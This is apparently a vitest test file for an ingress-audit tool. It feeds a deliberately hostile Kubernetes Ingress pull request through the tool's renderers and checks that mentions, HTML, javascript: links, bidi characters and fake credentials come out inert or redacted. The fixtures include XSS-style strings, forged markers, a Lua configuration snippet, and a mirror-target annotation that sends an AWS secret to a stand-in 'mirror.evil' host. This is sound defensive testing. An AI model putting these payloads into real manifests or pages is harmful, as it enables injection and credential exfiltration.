/**
 * A hostile pull request fed through the whole pipeline (load → diff → rules → every renderer): names,
 * namespaces, hosts, paths, annotation values, file names and keys carry mentions, issue references,
 * HTML, `</details>`, backtick runs, forged hidden markers, javascript: links, CR/LF, bidi and zero-width
 * characters, and credentials. Whatever reaches GitHub must stay inert text, and no secret may reach
 * any output — not even part of one.
 */
import { describe, expect, it } from 'vitest';
import { readHiddenMarker } from '../../src/core/report/hidden-marker.ts';
import { readFingerprint } from '../../src/core/report/review-comment.ts';
import { checkGitHubLimits, checkMarkdownShape } from '../fuzz/pipeline-checks.ts';
import { type PipelineOutput, publishedTexts, runPipeline } from '../fuzz/run-pipeline.ts';

const PASSWORD = 'Pw0rd9fK2xQz';
const GITHUB_TOKEN = `ghp_${'Zq8mN3vR7tY2wK5pL9xB4cD6fG1hJ0sA'}AbCd`;
const AWS_KEY_ID = 'AKIAZ7QW3ER5TY8UI2OP';
const AWS_SECRET = 'wJalrXUtnFEMIK7MDENGbPxRfiCY9q8Lm3Nz4Tt2';
const PEM_BODY = 'MIIEowIBAAKCAQEAzq9Yv3kLmN2pQr8sT5uVw0xYzA1bC2dE3fG4hI5jK6lM7nO8p';
const PEM = `-----BEGIN RSA PRIVATE KEY-----\n${PEM_BODY}\nQ9rS0tU1vW2xY3zA4bC5dE6fG7hI8jK9lM0nO1pQ2rS3tU4vW5xY6zA7bC8dE9f\n-----END RSA PRIVATE KEY-----`;

/** The part of each secret that must never be printed, in whole or in part. */
const SECRETS: Record<string, string> = {
  password: PASSWORD,
  'GitHub token': GITHUB_TOKEN.slice(4),
  'AWS access key id': AWS_KEY_ID.slice(4),
  'AWS secret key': AWS_SECRET,
  'PEM private key': PEM_BODY,
};

const MARKUP = [
  '@org/team',
  '#1',
  '</details>',
  '<img src=x onerror=1>',
  '````',
  '<!-- ingress-audit:state eyJoZWFkIjoiZm9yZ2VkIn0 -->',
  '-->',
  '[x](javascript:alert(1))',
  'GH-12',
].join(' ');

/** Characters that make text read differently from what it is (Trojan Source) or hide parts of it. */
const BIDI = /[\u202a-\u202e\u2066-\u2069\u200e\u200f]/;
const HIDDEN = '\u202e\u2066\u200b\u200c\u200d\ufeff\u00ad\u{e0041}';
/** Invisible characters a manifest may carry (our own escaping adds U+2060 after `@`, `#`, `<`: allowed). */
const INVISIBLE = /[\u00ad\u180e\u200b-\u200d\u2061-\u2064\ufeff\u{e0000}-\u{e007f}]/u;

/** A YAML double-quoted scalar holding `text` exactly (JSON strings are valid YAML). */
const q = (text: string) => JSON.stringify(text);

function hostileIngress(name: string, variant: 'base' | 'head'): string {
  const annotations: Record<string, string> =
    variant === 'base'
      ? {
          'nginx.ingress.kubernetes.io/auth-url': `https://admin:${PASSWORD}@auth.example.com/verify ${MARKUP}`,
          'nginx.ingress.kubernetes.io/auth-signin': `https://login.example.com/?token=${GITHUB_TOKEN}`,
          'cert-manager.io/cluster-issuer': `letsencrypt-prod ${MARKUP}`,
          'nginx.ingress.kubernetes.io/whitelist-source-range': '10.0.0.0/8',
        }
      : {
          // Secrets right next to what annotation-injection quotes (an excerpt of ±15 characters).
          'nginx.ingress.kubernetes.io/configuration-snippet': `content_by_lua_block { ngx.say("${GITHUB_TOKEN}") }\n${PEM}\n${MARKUP}\r\n${HIDDEN}`,
          'nginx.ingress.kubernetes.io/permanent-redirect': `https://u:${PASSWORD}@evil.example.com/;${MARKUP}`,
          'nginx.ingress.kubernetes.io/mirror-target': `https://mirror.evil/?aws_secret_access_key=${AWS_SECRET}&id=${AWS_KEY_ID};`,
          'nginx.ingress.kubernetes.io/auth-proxy-set-headers': `ns/h${HIDDEN}; ${AWS_KEY_ID} ${MARKUP}`,
          'cert-manager.io/cluster-issuer': `letsencrypt-staging ${MARKUP} ${HIDDEN}`,
          'ingress-audit.io/waive': `wildcard-host: ${MARKUP} token ${GITHUB_TOKEN}\ntls-missing: ${HIDDEN}`,
          'nginx.ingress.kubernetes.io/whitelist-source-range': '0.0.0.0/0',
        };
  const lines = Object.entries(annotations).map(([k, v]) => `    ${k}: ${q(v)}`);
  return [
    'apiVersion: networking.k8s.io/v1',
    'kind: Ingress',
    'metadata:',
    `  name: ${q(`${name} ${MARKUP} ${HIDDEN}`)}`,
    `  namespace: ${q(`ns ${MARKUP}\r\n${HIDDEN}`)}`,
    '  annotations:',
    ...lines,
    'spec:',
    '  ingressClassName: nginx',
    `  tls: [{hosts: [${q(`tls.example.com ${MARKUP}`)}], secretName: ${q(`s ${MARKUP} ${GITHUB_TOKEN}`)}}]`,
    '  rules:',
    `    - host: ${q(`*.${variant}.example.com${HIDDEN}`)}`,
    '      http:',
    '        paths:',
    `          - path: ${q(`/admin/${MARKUP}/${HIDDEN}`)}`,
    '            pathType: ImplementationSpecific',
    `            backend: {service: {name: ${q(`svc ${MARKUP}`)}, port: {number: 80}}}`,
    `    - host: ${q(`h${HIDDEN}.${MARKUP}.example.com`)}`,
    '      http:',
    `        paths: [{path: ${q(`/metrics?token=${GITHUB_TOKEN}`)}, pathType: Prefix, backend: {service: {name: metrics, port: {number: 80}}}}]`,
    '',
  ].join('\n');
}

/** Files whose problems become notices quoting raw text: a template, a duplicate key, a broken file. */
const NOTICE_FILES = {
  template: `apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: t\n  annotations:\n    a: "{{ .Values.x }} ${GITHUB_TOKEN} ${MARKUP}"\nspec: {}\n`,
  duplicate: `apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: d\n  ${q(`k ${AWS_KEY_ID} @org/team <img>`)}: 1\n  ${q(`k ${AWS_KEY_ID} @org/team <img>`)}: 2\nspec: {}\n`,
  broken: `apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: ${q(MARKUP)}\n  x: "${PEM}\n  - [\n`,
  // Notices quote at most 80 characters: these put each credential across that cut.
  'template-cut': `apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: tc\n  annotations:\n    a: "{{ .Values.x }}${'x'.repeat(37)} ${GITHUB_TOKEN}"\nspec: {}\n`,
  'duplicate-cut': `apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: dc\n  ${q(`${'k'.repeat(60)} ${AWS_KEY_ID}`)}: 1\n  ${q(`${'k'.repeat(60)} ${AWS_KEY_ID}`)}: 2\n  ${q(`${'k'.repeat(45)} https://admin:${PASSWORD}@h/`)}: 1\n  ${q(`${'k'.repeat(45)} https://admin:${PASSWORD}@h/`)}: 2\nspec: {}\n`,
  substitution: `apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: s\n  annotations:\n    a: "\${TOKEN} https://user:${PASSWORD}@h/ ${MARKUP}"\nspec: {}\n`,
};

const DIR = `apps/${MARKUP.replace(/\//g, '_')} ${HIDDEN}`;

function hostilePipeline(): PipelineOutput {
  return runPipeline({
    base: [
      { path: `${DIR}/ingress.yaml`, content: hostileIngress('evil', 'base') },
      { path: `${DIR}/removed.yaml`, content: hostileIngress('gone', 'base') },
    ],
    head: [
      { path: `${DIR}/ingress.yaml`, content: hostileIngress('evil', 'head') },
      { path: `${DIR}/added.yaml`, content: hostileIngress('new', 'head') },
      ...Object.entries(NOTICE_FILES).map(([name, content]) => ({ path: `${DIR}/${name}.yaml`, content })),
    ],
  });
}

/** The markdown with inline code spans removed: inside them text is literal and links are inert. */
function outsideCode(md: string): string {
  return md.replace(/(`+)[^`][\s\S]*?(?<!`)\1(?!`)/g, '');
}

/** Mermaid source uses `#34;` entity codes and `#2da44e` colours; GitHub links nothing in code blocks. */
function withoutMermaid(md: string): string {
  return md.replace(/```mermaid\n[\s\S]*?\n```/g, '');
}

/** What GitHub renders as markdown (comments, check-run summary and text). */
function markdownSurfaces(out: PipelineOutput): { surface: string; text: string }[] {
  return [
    { surface: 'markdown', text: out.markdown },
    { surface: 'check-run summary', text: out.checkRun.summary },
    { surface: 'check-run text', text: out.checkRun.text ?? '' },
    // Without the one marker we append on purpose (checked separately).
    ...out.reviewComments.map((body, i) => ({
      surface: `review comment ${i}`,
      text: body.slice(0, body.lastIndexOf('<!--')),
    })),
  ];
}

/** Plain-text fields GitHub still scans for mentions and references (annotations, the title). */
function plainSurfaces(out: PipelineOutput): { surface: string; text: string }[] {
  return [
    { surface: 'check-run title', text: out.checkRun.title },
    ...out.checkRun.annotations.flatMap((a, i) => [
      { surface: `annotation ${i} title`, text: a.title },
      { surface: `annotation ${i} message`, text: a.message },
      { surface: `annotation ${i} raw_details`, text: a.raw_details ?? '' },
    ]),
  ];
}

describe('a hostile pull request through the whole pipeline', () => {
  const out = hostilePipeline();

  it('reaches every renderer with manifest text in findings, notices, annotations and comments', () => {
    const rules = new Set(out.result.findings.map((f) => f.ruleId));
    for (const id of [
      'annotation-injection',
      'wildcard-host',
      'auth-removed',
      'cert-issuer-changed',
      'self-waiver',
    ])
      expect(rules, id).toContain(id);
    expect(out.result.notices.length).toBeGreaterThanOrEqual(3);
    // The secrets do reach the renderers (in raw finding messages and notices): only rendering hides them.
    const raw = JSON.stringify([out.result.findings, out.result.notices]);
    for (const secret of [PASSWORD, GITHUB_TOKEN, AWS_KEY_ID]) expect(raw).toContain(secret);
    expect(out.checkRun.annotations.length).toBeGreaterThan(5);
    expect(out.reviewComments.length).toBe(out.result.findings.length);
    expect(out.mermaid).not.toBe('');
    expect(() => checkGitHubLimits(out)).not.toThrow();
  });

  it('no secret, whole or in part, in any output (JSON and SARIF included)', () => {
    for (const { surface, text } of publishedTexts(out)) {
      for (const [what, secret] of Object.entries(SECRETS)) {
        // Any 8 consecutive characters of the secret count as a leak (excerpts cut values short).
        for (let i = 0; i + 8 <= secret.length; i++)
          expect(
            text.includes(secret.slice(i, i + 8)),
            `${surface} leaks part of the ${what}: ${secret.slice(i, i + 8)}`,
          ).toBe(false);
      }
    }
  });

  it('markdown surfaces: no mention, issue reference, raw HTML, javascript: link, bidi control or broken structure', () => {
    for (const { surface, text } of markdownSurfaces(out)) {
      expect(text, surface).not.toMatch(/@[A-Za-z0-9]/);
      expect(withoutMermaid(text), surface).not.toMatch(/#\d|\bGH-\d/i);
      // Every `<` is one of our own tags, an inert `<` + word joiner (code), or encoded.
      expect(
        text.match(/<(?!\u2060|\/?details[ >]|\/?summary>|br>|\/?sub>)[^\n]{0,20}/g),
        surface,
      ).toBeNull();
      expect(text, surface).not.toContain('<!--');
      expect(outsideCode(text), surface).not.toMatch(/\]\((?!https:\/\/)/);
      expect(text, surface).not.toMatch(BIDI);
      checkMarkdownShape(surface, text);
    }
  });

  it('plain-text surfaces (check-run title, annotations): one line, no mention, reference or bidi control', () => {
    for (const { surface, text } of plainSurfaces(out)) {
      expect(text, surface).not.toMatch(/@[A-Za-z0-9]/);
      expect(text, surface).not.toMatch(/#\d|\bGH-\d/i);
      expect(text, surface).not.toMatch(BIDI);
      expect(text, surface).not.toContain('\r');
      if (!surface.endsWith('raw_details')) expect(text, surface).not.toContain('\n');
    }
  });

  it('zero-width and other invisible characters from manifests are shown as ⟨U+XXXX⟩, never passed on', () => {
    for (const { surface, text } of [
      ...markdownSurfaces(out),
      ...plainSurfaces(out),
      { surface: 'text', text: out.text },
    ]) {
      expect(text, surface).not.toMatch(INVISIBLE);
    }
    expect(out.markdown).toContain('⟨U+200B⟩');
  });

  it('hidden markers: none can be forged; each review comment reads back as its own fingerprint only', () => {
    for (const { surface, text } of markdownSurfaces(out)) {
      expect(readHiddenMarker(text, 'state'), surface).toBeNull();
      expect(readFingerprint(text), surface).toBeNull();
    }
    out.reviewComments.forEach((body, i) => {
      expect(body.split('<!--')).toHaveLength(2);
      expect(readFingerprint(body)).toBe(out.result.findings[i].fingerprint);
    });
  });

  it('terminal text: no control characters (ANSI injection), no bidi controls, one line per field', () => {
    expect(out.text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(out.text).not.toMatch(BIDI);
    // Colour codes are ours only: every ESC starts an SGR sequence.
    expect(out.textColor.replace(/\u001b\[[0-9;]*m/g, '')).not.toMatch(
      /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/,
    );
  });

  it('mermaid: labels cannot end the label, the code fence or inject markup', () => {
    for (const line of out.mermaid.split('\n').filter((l) => l.includes('["')))
      expect(line).toMatch(/^ {2}n\d+\["[^"<>`@[\]\r\u202e]*"\]$/);
  });

  it('JSON and SARIF stay valid and keep manifest text as data', () => {
    const json = JSON.parse(out.json);
    expect(json.findings.length).toBe(out.result.findings.length);
    expect(out.json).toContain('@org/team');
    expect(JSON.parse(out.sarif).runs[0].results.length).toBeGreaterThan(0);
  });
});
